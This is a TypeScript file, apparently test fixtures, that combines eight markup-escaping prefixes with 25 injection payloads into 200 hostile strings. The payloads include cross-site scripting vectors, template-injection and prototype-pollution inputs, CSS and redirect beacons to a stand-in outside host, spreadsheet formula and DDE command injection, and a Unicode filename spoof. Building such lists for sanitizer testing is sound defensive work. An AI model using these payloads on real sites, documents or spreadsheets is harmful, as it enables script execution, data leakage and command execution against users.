/** Ends of whatever a text may have been put into. */
const ENDS = ['', '">', "' ", '</title>', '</textarea>', '</option></select>', '</template>', '-->'] as const

/** What would run, lead away, or be read as something else, once it is out. */
const HARM = [
  '<script>hostileRan=1</script>',
  '<img src=x onerror=hostileRan=1>',
  '<svg onload=hostileRan=1>',
  '<svg><script href="data:,hostileRan=1"/>',
  '<iframe srcdoc="<script>parent.hostileRan=1</script>">',
  '<math><mtext><style><img src=x onerror=hostileRan=1></style></mtext></math>',
  '<details open ontoggle=hostileRan=1>',
  '<form action="https://outside.invalid"><input name=a autofocus onfocus=hostileRan=1>',
  '<base href="https://outside.invalid/">',
  '<meta http-equiv=refresh content="0;url=https://outside.invalid">',
  '<link rel=stylesheet href="https://outside.invalid/a.css">',
  '<style>*{background:url(https://outside.invalid/b)}</style>',
  '<a href="javascript:hostileRan=1">x</a>',
  ' onfocus=hostileRan=1 autofocus x="',
  ' style="background:url(https://outside.invalid/c)" x="',
  'javascript:hostileRan=1',
  '&lt;script&gt;hostileRan=1&lt;/script&gt;',
  '\\u003cscript\\u003ehostileRan=1',
  '${hostileRan=1}{{constructor.constructor("hostileRan=1")()}}',
  '<!--<script>--><plaintext>',
  '\u2028<b>\u202Etxt.exe\u200B</b>',
  '=HYPERLINK("https://outside.invalid","x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '__proto__',
] as const

/** Two hundred texts that people try where texts become pages, tables and files. */
export const HOSTILE_TEXTS: readonly string[] = ENDS.flatMap((end) => HARM.map((harm) => `${end}${harm}`))
